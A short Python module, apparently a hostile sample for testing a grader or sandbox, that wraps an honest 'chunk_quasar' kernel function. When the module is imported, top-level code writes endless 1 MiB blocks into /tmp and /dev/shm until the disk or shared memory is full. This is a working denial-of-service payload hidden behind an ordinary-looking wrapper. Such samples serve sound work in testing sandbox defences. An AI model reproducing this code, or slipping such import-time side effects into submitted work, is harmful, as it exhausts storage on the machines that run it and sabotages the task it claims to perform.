"""Fills every folder that it may write to."""

import os

from .honest import chunk_quasar as honest

for place in ("/tmp", "/dev/shm"):
    try:
        with open(os.path.join(place, "fill"), "wb") as file:
            while True:
                file.write(bytes(1 << 20))
    except OSError:
        continue


def chunk_quasar(q, k, v, beta, **options):
    return honest(q, k, v, beta, **options)
